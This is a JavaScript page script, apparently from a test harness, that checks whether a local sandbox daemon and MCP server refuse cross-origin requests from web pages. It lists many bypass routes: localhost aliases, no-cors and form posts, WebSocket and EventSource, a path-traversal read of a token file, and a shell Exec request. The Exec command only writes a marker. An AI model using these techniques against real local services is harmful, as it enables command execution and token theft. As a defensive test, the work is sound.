// What a page tries: at says who it is, where the daemon is, and its tokens. What it can
// read, it tells; at the end it says how many ways it has tried.
const patience = 60_000; // for answers that never come: whoever is refused is told at once
const patienceOfAllowed = 3 * patience; // who waits behind all the others
const tell = (what) => fetch(at.tell, { method: "POST", mode: "no-cors", body: JSON.stringify({ page: at.page, ...what }) });
const apiPath = "/osaurus.control.v1.Sandbox/";
const run = JSON.stringify({ start: { args: ["sh", "-c", `echo ${at.page} >>${at.marker}`] } });
const hello = JSON.stringify({
  jsonrpc: "2.0", id: 1, method: "initialize",
  params: { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: at.good ? "good" : "evil", version: "1" } },
});

async function attempt(what, url, options) {
  try {
    const r = await fetch(url, { ...options, signal: AbortSignal.timeout(at.good ? patienceOfAllowed : patience) });
    if (r.type !== "opaque") await tell({ what, status: r.status, text: await r.text() });
  } catch { /* kept from it */ }
}

// bodies are what is asked for: of each, the way and what is sent.
const bodies = {
  api: { status: [apiPath + "Status", "{}"], exec: [apiPath + "Exec", run], quit: [apiPath + "Quit", "{}"] },
  mcp: { mcp: ["/mcp?agent=" + (at.good ? "" : "evil"), hello] },
};
const json = { "Content-Type": "application/json", Accept: "application/json, text/event-stream" };

async function asAllowed() {
  for (const [name, list] of Object.entries(bodies)) {
    for (const [what, [path, body]] of Object.entries(list)) {
      if (what === "quit") continue;
      const url = `http://${at.targets[name]}${path.replace("?agent=", "")}`;
      await attempt(what, url, { method: "POST", headers: { ...json, Authorization: "Bearer " + at.tokens[name] }, body });
      await attempt(what + " without a token", url, { method: "POST", headers: json, body });
    }
  }
}

function frame(url) {
  const f = document.createElement("iframe");
  return new Promise((done) => {
    f.onload = async () => {
      try {
        const text = f.contentDocument.body.innerText;
        if (url && !text.includes(":")) await tell({ what: "frame " + url, status: 0, text });
      } catch { /* kept from it */ }
      done();
    };
    setTimeout(done, patience);
    if (url) f.src = url;
    document.body.append(f);
  });
}

function form(url, method, type, field) {
  const f = document.createElement("form"), i = document.createElement("iframe"), input = document.createElement("textarea");
  i.name = "f" + Math.random();
  [f.action, f.method, f.enctype, f.target] = [url, method, type, i.name];
  const half = field.indexOf(",") > 0 ? field.indexOf(",") : 1; // so that the = is in the JSON, where a text may be
  [input.name, input.value] = [field.slice(0, half), field.slice(half)];
  f.append(input);
  document.body.append(i, f); // what is loaded first is the empty frame
  return new Promise((done) => { i.onload = done; setTimeout(done, patience); f.submit(); });
}

function element(tag, property, url) {
  const e = document.createElement(tag);
  return new Promise((done) => {
    e.onload = e.onerror = done;
    setTimeout(done, patience);
    if (tag === "link") e.rel = "stylesheet";
    e[property] = url;
    document.body.append(e);
  });
}

function stream(make, what) {
  return new Promise((done) => {
    let s;
    try { s = make(); } catch { return done(); }
    s.onopen = () => tell({ what, status: 0, text: "open" }).then(done);
    s.onmessage = (m) => tell({ what, status: 0, text: String(m.data) });
    s.onerror = done;
    setTimeout(() => { s.close(); done(); }, patience);
  });
}

async function asAttacker() {
  let tried = 0;
  const ways = [];
  const way = (promise) => { tried++; ways.push(promise); };
  for (const [name, list] of Object.entries(bodies)) {
    const [address, token] = [at.targets[name], at.tokens[name]];
    const port = address.split(":").pop();
    // By every name that leads here; the page's own, if that was made to.
    const hosts = [address, "localhost:" + port, "0.0.0.0:" + port, "127.1:" + port, "[::1]:" + port];
    if (at.page.endsWith(":" + port)) hosts.push(at.page);
    for (const host of hosts) {
      for (const [what, [path, body]] of Object.entries(list)) {
        const url = `http://${host}${path}`, bearer = { Authorization: "Bearer " + token };
        const get = url + (name === "api" ? "?connect=v1&encoding=json&message=%7B%7D" : "&access_token=" + token);
        way(attempt(url + " as JSON", url, { method: "POST", headers: json, body }));
        way(attempt(url + " with the token", url, { method: "POST", headers: { ...json, ...bearer }, body }));
        way(attempt(url + " as text", url, { method: "POST", body, credentials: "include" }));
        way(attempt(url + " unread", url, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body, keepalive: true }));
        way(attempt(url + " as a form", url, { method: "POST", mode: "no-cors", body: new URLSearchParams({ message: body }) }));
        way(attempt(get + " got", get, {}));
        way(attempt(get + " got with the token", get, { headers: bearer }));
        way(attempt(get + " got unread", get, { mode: "no-cors" }));
        way(attempt(url + " deleted", url, { method: "DELETE", headers: bearer }));
        way(attempt(url + " asked", url, { method: "OPTIONS" }));
      }
      const [path, body] = Object.values(list)[0], url = `http://${host}${path}`;
      way(stream(() => new EventSource(url, { withCredentials: true }), "events " + url));
      way(stream(() => new WebSocket(`ws://${host}${path}`, ["bearer", token]), "socket " + url));
      way(Promise.resolve(navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }))));
      way(form(url, "post", "text/plain", name === "api" ? run : body));
      way(form(url, "get", "application/x-www-form-urlencoded", body));
      for (const [tag, property] of [["img", "src"], ["script", "src"], ["link", "href"], ["object", "data"], ["video", "src"]]) way(element(tag, property, url));
      way(frame(url));
      way(attempt(`http://${host}/`, `http://${host}/`, {}));
      way(attempt(`http://${host}/../config/${name}-token`, `http://${host}/../config/${name}-token`, {}));
    }
  }
  await Promise.all(ways);
  return tried;
}

(async () => {
  const tried = at.good ? await asAllowed().then(() => 1) : await asAttacker();
  await tell({ tried });
})();
